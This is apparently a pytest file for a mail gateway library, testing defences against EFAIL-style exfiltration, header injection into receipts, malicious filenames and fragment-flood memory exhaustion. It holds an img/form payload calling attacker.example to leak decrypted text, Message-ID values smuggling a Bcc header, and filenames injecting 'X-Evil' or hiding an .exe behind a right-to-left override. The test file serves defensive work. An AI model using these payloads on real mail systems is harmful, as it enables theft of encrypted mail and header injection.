"""Mails that put words around sealed ones, or fields of their own into our answers (EFAIL, injection)."""

import tracemalloc
from pathlib import Path

import pytest
from fuzz.targets.inner import OUTER, Opener

from radpost.agit.contents import Content
from radpost.agit.letter import inner_chunks
from radpost.agit.naming import document_name
from radpost.agit.opening import open_mail
from radpost.agit.receipts import ReceiptMail, clear_mail, sealed_envelope, sealed_inner
from radpost.agit.survey import MailKind, survey
from radpost.mime.partial import Fragment, assemble, fragment_info, progress
from radpost.mime.reader import parse
from radpost.mime.report import parse_mdn
from radpost.openpgp.values import Limits
from radpost.testing.letters import WHEN, document, letter

SECRET = b"the sealed words"
SEALED = OUTER[OUTER.index(b"Content-Type: multipart/encrypted") :]
FRAME = (
    b'<img src="http://attacker.example/?',
    b'">',
    b"<form action=http://attacker.example><textarea name=x>",
)


def part(kind: str, data: bytes, more: str = "") -> bytes:
    return f"Content-Type: {kind}\r\n{more}\r\n".encode() + data


def mixed(*parts: bytes, subtype: str = "mixed") -> bytes:
    body = b"".join(b"--frame\r\n" + one + b"\r\n" for one in parts)
    head = f"From: a@b.example\r\nContent-Type: multipart/{subtype}; boundary=frame\r\n\r\n".encode()
    return head + body + b"--frame--\r\n"


def opened(mail: bytes, inner: bytes, temp: Path) -> Content:
    return open_mail(survey(mail), mail, Opener(inner), temp=temp, limits=Limits())


def octets(content: Content) -> list[bytes]:
    return [b"".join(bytes(chunk) for chunk in one.chunks()) for one in content.parts]


INNER = part("application/pdf; name=a.pdf", SECRET, "MIME-Version: 1.0\r\n")


@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative"])
@pytest.mark.parametrize("kind", ["text/html", "text/plain", "image/png", "application/xhtml+xml"])
def test_inv7_a_frame_around_a_sealed_part_gets_nothing_of_it(
    kind: str, subtype: str, tmp_path: Path
) -> None:
    """Parts are never put together: what is sealed comes out alone, and what stands around it does not."""
    mail = mixed(part(kind, FRAME[0]), SEALED, part(kind, FRAME[1]), subtype=subtype)
    with opened(mail, INNER, tmp_path) as content:
        assert octets(content) == [SECRET]
        assert [one.cover.encrypted for one in content.parts] == [True]


@pytest.mark.parametrize("frame", FRAME)
def test_inv7_an_attachment_beside_a_sealed_part_is_not_taken_for_sealed(
    frame: bytes, tmp_path: Path
) -> None:
    beside = part("application/pdf; name=b.pdf", frame, "Content-Disposition: attachment\r\n")
    with opened(mixed(beside, SEALED), INNER, tmp_path) as content:
        found = dict(zip(octets(content), (one.cover.encrypted for one in content.parts), strict=True))
        assert found == {frame: False, SECRET: True}
        assert not content.encrypted
        assert content.signature.fingerprint is None


def test_inv7_a_sealed_part_that_is_quoted_in_a_mail_is_not_joined_with_its_text(tmp_path: Path) -> None:
    armor = SEALED[SEALED.index(b"-----BEGIN") : SEALED.index(b"-----END PGP MESSAGE-----") + 27]
    mail = b"From: a@b.example\r\nContent-Type: text/html\r\n\r\n" + FRAME[0] + b"\r\n" + armor + FRAME[1]
    found = survey(mail)
    with open_mail(found, mail, Opener(INNER), temp=tmp_path, limits=Limits()) as content:
        assert octets(content) in ([], [SECRET])


HOSTILE_FIELDS = [
    "Message-ID: <a\rBcc: x@y.example\r@b.example>",
    "Message-ID: <a@b.example>\r\n\tBcc: x@y.example",
    "Message-ID: <a\x0bBcc: x@y.example@b.example>",
    "Message-ID: =?utf-8?Q?<a=0D=0ABcc:_x@y.example>?=",
    "Message-ID: <=?utf-8?Q?a=0D=0ABcc:_x?=@b.example>",
    "Message-ID: <a@b.example>\0\r\nBcc: x@y.example",
    "Message-ID: <" + "a" * 890 + "@b>",
    "Message-ID: <" + "ü" * 400 + "@b.example>",
    "Message-ID: <a b\tc@b.example>",
    "Message-ID: <a%0d%0aBcc:x@b.example>",
]


@pytest.mark.parametrize("field", HOSTILE_FIELDS, ids=range(len(HOSTILE_FIELDS)))
def test_inv9_no_field_of_a_mail_gets_into_the_header_of_its_receipt(field: str) -> None:
    mail = f"From: a@b.example\r\n{field}\r\nDisposition-Notification-To: a@b.example\r\n\r\nx".encode()
    found = survey(mail)
    if not found.message_id:
        return  # nothing to name, and so no receipt
    receipt = ReceiptMail(
        sender="gateway@clinic.example",
        recipient=found.receipt_to,
        date=WHEN,
        message_id="<1@clinic.example>",
        original_message_id=found.message_id,
        disposition="automatic-action/MDN-sent-automatically;displayed",
        reason_en="All objects were stored.",
        reason_de="Alle Objekte wurden gespeichert.",
        failed=False,
        code="",
        boundaries=("=_r", "=_x", "=_o"),
    )
    inner = b"".join(bytes(chunk) for chunk in sealed_inner(receipt))
    for text in (clear_mail(receipt), inner, sealed_envelope(receipt).head):
        assert text.isascii()
        assert max(map(len, text.split(b"\r\n"))) <= 998
        names = [item.name for item in parse(text).headers]
        assert len(names) == len(set(names))
        assert not {"Bcc", "X-Evil"} & set(names)
    report = parse_mdn(parse(inner), inner)
    assert report is not None
    assert report.final_recipient == "gateway@clinic.example"


@pytest.mark.parametrize(
    "name",
    [
        "\0",
        "a\0b.pdf",
        "\ud800.pdf",
        "a\r\nX-Evil: x.pdf",
        "=?utf-8?Q?=0D=0AX-Evil:_x?=",
        "\u202efdp.exe",
        "a" * 9000,
    ],
)
def test_inv5_names_with_nul_surrogates_and_line_ends_travel_as_harmless_ones(
    name: str, tmp_path: Path
) -> None:
    mail = letter((document(b"%PDF-", name),))
    inner = b"".join(bytes(chunk.data) for chunk in inner_chunks(mail))
    assert b"X-Evil" not in b"".join(line for line in inner.split(b"\r\n") if line.startswith(b"X-"))
    with opened(OUTER, inner, tmp_path) as content:
        (found,) = content.parts
        assert found.filename == document_name(name)
        assert found.filename.isprintable()


def test_inv8_ten_thousand_copies_of_a_fragment_take_no_more_than_one() -> None:
    body = b"x" * 60 + b"\r\n"
    raw = b"Content-Type: message/partial; id=x; number=1; total=2\r\n\r\n" + body * 100
    root = parse(raw)
    info = fragment_info(root)
    assert info is not None
    last = raw.replace(b"number=1", b"number=2")
    end = parse(last)
    end_info = fragment_info(end)
    assert end_info is not None
    copies = [Fragment(info, root, raw) for _ in range(10_000)]
    tracemalloc.start()
    try:
        joined = assemble([*copies, Fragment(end_info, end, last)])
        assert joined.size < 3 * len(raw)
        assert tracemalloc.get_traced_memory()[1] < 2 << 20
    finally:
        tracemalloc.stop()


def test_inv8_a_group_that_misses_almost_all_is_told_in_little_memory() -> None:
    raw = b"Content-Type: message/partial; id=x; number=10000; total=10000\r\n\r\nx"
    info = fragment_info(parse(raw))
    assert info is not None
    tracemalloc.start()
    try:
        state = progress([info] * 10_000)
        assert (state.present, len(state.missing), state.complete) == (1, 9_999, False)
        assert tracemalloc.get_traced_memory()[1] < 4 << 20
    finally:
        tracemalloc.stop()


def test_a_mail_of_frames_alone_is_foreign() -> None:
    assert survey(mixed(part("text/html", FRAME[0]), part("text/html", FRAME[1]))).kind is MailKind.FOREIGN
